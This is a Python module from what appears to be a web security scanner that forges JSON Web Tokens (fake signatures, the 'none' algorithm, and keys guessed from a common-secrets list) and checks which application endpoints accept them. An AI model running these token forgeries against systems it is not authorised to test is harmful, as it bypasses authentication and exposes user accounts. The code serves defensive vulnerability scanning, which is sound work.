"""Forges JSON Web Tokens and sees who takes them: CWE-347, CWE-326.

Three forgeries: a signature that is none, the algorithm ``none``, and a signature with a key
that can be guessed. The last needs no guessing over the wire: the key of a token that the
application gave out is tried here, and only the one that fits is sent.
"""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from buckler.scan.engines.attack.drafts import CannotCarry, Draft
from buckler.scan.engines.attack.explore import Explorer, entered, order_of
from buckler.scan.engines.attack.forms import cookies_of
from buckler.scan.engines.attack.jwt import Token, crack, encode, guess, made_up, parse
from buckler.scan.engines.attack.run import Run
from buckler.scan.engines.interface import Exchange, Identity, Slot
from buckler.scan.engines.observations import Forgery
from buckler.scan.model.application import Operation
from buckler.scan.model.secrets import COMMON

_JWT = re.compile(r"eyJ[\w-]{4,}\.[\w-]{4,}\.[\w-]*")
_NO_TOKEN = ("file", "filename", "path", "message")
_LEAST = 120
_NONES = ("none", "None", "NONE")
MAX_GUESSES = 100


def forge(run: Run, explorer: Explorer) -> list[Forgery]:
    """Send forged tokens wherever tokens are read.

    Args:
        run: The run; its identities may have tokens.
        explorer: Knows how operations are reached.

    """
    return [*Forger(run, explorer).forgeries()]


class Forger:
    """Forges tokens for one run."""

    def __init__(self, run: Run, explorer: Explorer) -> None:
        self._run = run
        self._explorer = explorer
        self._gates: set[tuple[str, ...]] = set()
        self._guessed: set[tuple[tuple[str, int, str], ...]] = set()

    def forgeries(self) -> Iterator[Forgery]:
        """What was taken, one for each place that reads tokens."""
        seen: set[tuple[object, ...]] = set()
        yield from self._given_out()
        for operation in sorted(self._run.operations, key=order_of):
            draft = self._explorer.drafts.get(operation.key)
            if draft is None or operation.is_websocket or self._run.states[operation.key].lost:
                continue
            for found in (*self._credentials(operation, draft), *self._slots(operation, draft)):
                key = (
                    found.kind,
                    found.stack[0][:2] if found.stack else (found.operation, found.slot),
                )
                if key not in seen:
                    seen.add(key)
                    yield found

    def _given_out(self) -> Iterator[Forgery]:
        """Tokens and signed cookies in answers whose key is one of the common ones."""
        known: set[tuple[str, str]] = set()
        for exchange in self._run.seen.everything:
            operation, answer = exchange.operation, exchange.answer
            if operation is None or not answer.ok:
                continue
            cookies = cookies_of(answer)
            signed = [(f"cookie:{name}", value) for name, value in cookies.items()]
            signed += [("", found.group()) for found in _JWT.finditer(answer.text[:20_000])]
            for slot, text in signed:
                key = guess(text)
                if key is not None and (slot or operation.key, key) not in known:
                    known.add((slot or operation.key, key))
                    how = f"it is signed with the key {key!r}, one of those that are tried first"
                    yield Forgery("key", operation.key, slot, exchange, (), how)

    def _credentials(self, operation: Operation, draft: Draft) -> Iterator[Forgery]:
        """Forge the token with which an identity signs in, once for each gate."""
        gate = tuple(sorted(d.name for d in operation.dependencies))
        cells = self._run.seen.matrix.get(operation.key, {})
        nobody = cells.get(None)
        if not gate or gate in self._gates or (nobody is not None and nobody.reached):
            return
        if operation.key in self._run.seen.forged:
            return
        for identity in self._run.identities.values():
            cell = cells.get(identity.name)
            if cell is None or not cell.reached:
                continue
            for name, value in identity.headers:
                found = _JWT.search(value)
                token = parse(found.group()) if found else None
                if (
                    found is None
                    or token is None
                    or not self._needs(operation, draft, identity, name)
                ):
                    continue
                self._gates.add(gate)
                before, after = value[: found.start()], value[found.end() :]
                slot = f"header:{name}"
                if name == "cookie":
                    slot = "cookie:" + before.rstrip("=").rpartition("; ")[2].rpartition("=")[2]
                yield from self._variants(
                    operation,
                    slot,
                    crack(found.group(), token),
                    lambda text, n=name, b=before, a=after, i=identity: (
                        draft,
                        replace(
                            i,
                            headers=tuple((k, b + text + a if k == n else v) for k, v in i.headers),
                        ),
                    ),
                )
                return
        if any(
            s.type.lower() in ("http", "oauth2", "openidconnect") and "basic" not in s.cls.lower()
            for s in operation.security
        ):
            self._gates.add(gate)
            slot_of = Slot("header", "authorization")
            yield from self._variants(
                operation,
                slot_of.key,
                made_up(),
                lambda text: (draft.with_value(slot_of, f"Bearer {text}"), None),
                guess=True,
            )

    def _needs(self, operation: Operation, draft: Draft, identity: Identity, name: str) -> bool:
        """Whether the operation refuses the identity without that header."""
        rest = tuple(pair for pair in identity.headers if pair[0] != name)
        request = draft.request(replace(identity, headers=rest), self._run.client())
        answer = self._run.send(request, operation)
        return answer is not None and not entered(operation, answer)

    def _slots(self, operation: Operation, draft: Draft) -> Iterator[Forgery]:
        """Send a token into every slot that it fits into; where it is read, go on."""
        identity = self._run.identity(self._explorer.best_identity(operation))
        fitting = []
        for slot in self._explorer.slots(operation):
            most = slot.schema.get("maxLength")
            if slot.where not in _NO_TOKEN and not (isinstance(most, int) and most < _LEAST):
                fitting.append(slot)
        for slot in self._reading(operation, draft, fitting, identity):
            yield from self._variants(
                operation,
                slot.key,
                made_up(),
                lambda text, s=slot: (draft.with_value(s, text), identity),
                guess=True,
            )

    def _reading(
        self, operation: Operation, draft: Draft, slots: list[Slot], identity: Identity | None
    ) -> list[Slot]:
        """The slots that something reads a token from; all, where they cannot be told apart.

        One request carries a token in each of them.
        """
        if len(slots) < 2:
            return slots
        token, canaries = made_up(), {}
        for slot in slots:
            canary = self._run.canaries.new().text
            text = encode(token.header, {**token.claims, "buckler": canary}, None)
            try:
                draft = draft.with_value(slot, text + _signature(canary))
            except CannotCarry:
                continue
            canaries[canary] = slot
        answer = self._run.send(draft.request(identity, self._run.client()), operation)
        if answer is None:
            return []
        texts = [hit.text for hit in answer.hits if hit.sink == "token"]
        read = [slot for canary, slot in canaries.items() if any(canary in t for t in texts)]
        return read if read or (entered(operation, answer) and answer.ok) else slots

    def _variants(
        self, operation: Operation, slot: str, token: Token, fill: Any, *, guess: bool = False
    ) -> Iterator[Forgery]:
        """The forgeries of one token, until one is taken."""
        sent = self._send(operation, slot, token, "signature", "HS256", "", fill, needed=not guess)
        if sent is None:
            return
        exchange, taken = sent
        if taken is not None:
            yield taken
            return
        places = {hit.frames[:1] for hit in exchange.answer.hits if hit.sink == "token"}
        if guess and not places:
            return
        known = guess and places <= self._guessed
        self._guessed |= places
        for name in _NONES:
            sent = self._send(operation, slot, token, "none", name, None, fill, needed=not guess)
            if sent is not None and sent[1] is not None:
                yield sent[1]
                return
        if known:
            return
        keys = [token.key] if token.key is not None else list(COMMON[:MAX_GUESSES]) if guess else []
        for key in keys:
            algorithm = str(token.header.get("alg", "HS256"))
            sent = self._send(operation, slot, token, "key", algorithm, key, fill, needed=not guess)
            if sent is not None and sent[1] is not None:
                yield sent[1]
                return

    def _send(
        self,
        operation: Operation,
        slot: str,
        token: Token,
        kind: str,
        algorithm: str,
        key: str | None,
        fill: Any,
        *,
        needed: bool,
    ) -> tuple[Exchange, Forgery | None] | None:
        run = self._run
        canary = run.canaries.new().text
        claims = {**token.claims, "buckler": canary}
        header = {
            **token.header,
            "alg": algorithm if kind != "signature" else token.header.get("alg", algorithm),
        }
        text = encode(header, claims, key if kind == "key" else None)
        if kind == "signature":
            text += _signature(canary)
        try:
            draft, identity = fill(text)
            request = draft.request(identity, run.client())
        except CannotCarry:
            return None
        answer = run.send(request, operation)
        if answer is None:
            return None
        exchange = Exchange(operation, request, answer, entered(operation, answer))
        read = [
            h
            for h in answer.hits
            if h.sink == "token" and canary in h.text and h.more.get("accepted") is not None
        ]
        if read:
            # Read without a check and refused afterwards is fine; the other way round is not.
            taken = bool(read[-1].more.get("accepted")) and answer.status not in (401, 403)
        else:
            taken = needed and exchange.reached and answer.ok
        if not taken:
            return exchange, None
        how = {
            "signature": "the signature was replaced",
            "none": f"the algorithm was set to {algorithm!r} and the signature left out",
            "key": f"it was signed with the guessed key {key!r}",
        }[kind]
        stack = read[-1].frames if read else ()
        return exchange, Forgery(kind, operation.key, slot, exchange, stack, how)


def _signature(canary: str) -> str:
    """What looks like a signature and is none."""
    digest = hashlib.sha256(canary.encode()).digest()
    return base64.urlsafe_b64encode(digest).decode().rstrip("=")


__all__ = ["Forger", "Identity", "Token", "crack", "encode", "forge", "guess", "made_up", "parse"]
